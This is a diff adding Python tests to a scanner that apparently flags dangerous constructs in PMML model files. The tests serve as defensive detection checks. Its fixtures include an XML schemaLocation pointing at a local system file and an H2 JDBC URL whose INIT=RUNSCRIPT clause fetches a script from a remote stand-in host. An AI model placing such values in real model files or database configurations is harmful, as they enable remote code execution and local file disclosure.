@@ -122,3 +122,21 @@ def test_mutations_never_break_the_reader(raw: bytes, data: st.DataObject) -> No
         at = data.draw(st.integers(0, len(changed) - 1))
         changed[at : at + 1] = data.draw(st.binary(max_size=8))
     assert "FIL008" not in rules(scan(bytes(changed)))
+
+
+SECOND = (
+    '<Extension/><Extension xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
+    'xsi:schemaLocation="x:y file:///etc/x"/>'
+)
+
+
+def test_schemas_that_a_later_element_names() -> None:
+    assert rules(scan(pmml(SECOND))) == {"PMM008"}
+    far = pmml("<Annotation>x</Annotation>" * 200_000 + SECOND)
+    assert rules(scan(far)) == {"PMM008"}
+    assert rules(scan(pmml(SECOND.replace("file:///etc/x", "http://x/y")))) == set()
+
+
+def test_databases_that_run_scripts() -> None:
+    text = extension("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://seamark.invalid/x.sql'")
+    assert rules(scan(text)) == {"PMM006"}
